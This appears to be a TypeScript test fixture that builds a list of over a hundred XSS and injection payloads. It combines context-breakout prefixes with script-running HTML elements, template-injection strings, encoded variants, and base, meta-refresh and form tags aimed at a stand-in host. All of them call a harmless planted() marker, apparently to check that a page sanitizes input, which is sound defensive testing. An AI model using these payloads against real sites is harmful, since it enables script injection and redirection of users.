/** Leaves one context of HTML or script and begins another. */
const BREAKOUTS = ['', '">', "'>", '</script>', '</title>', '</textarea>', '-->', '\u2028</style>']

/** Each would be an element of the page, marked as planted, if it were taken for markup. */
const BODIES = [
  '<img src=x onerror=planted() data-planted>',
  '<svg onload=planted() data-planted></svg>',
  '<script data-planted>planted()</script>',
  '<iframe srcdoc="<script>parent.planted()</script>" data-planted></iframe>',
  '<a href="javascript:planted()" data-planted>x</a>',
  '<details open ontoggle=planted() data-planted>',
  '<input autofocus onfocus=planted() data-planted>',
  '<video data-planted><source onerror=planted()></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=planted() data-planted&gt;">',
  '<object data="data:text/html,<script>planted()</script>" data-planted></object>',
  '<base href="https://planted.example/" data-planted>',
  '<meta http-equiv=refresh content="0;url=https://planted.example/" data-planted>',
  '<form action="https://planted.example/" data-planted><button>x</button></form>',
]

/** What is no markup, and must not become a value that is run either. */
const WORDS = [
  '{{constructor.constructor("planted()")()}}',
  '${planted()}',
  '"-planted()-"',
  "';planted();//",
  '\\";planted();//',
  'javascript:planted()',
  '&lt;img src=x onerror=planted() data-planted&gt;',
  '%3Cimg src=x onerror=planted() data-planted%3E',
  '\u003cimg src=x onerror=planted() data-planted\u003e',
  '{planted, select, other {<b data-planted>x</b>}}',
]

/** A hundred and more texts of our own that a careless page would run. */
export const MARKUP_PAYLOADS: readonly string[] = [
  ...BREAKOUTS.flatMap((breakout) => BODIES.map((body) => breakout + body)),
  ...WORDS,
]
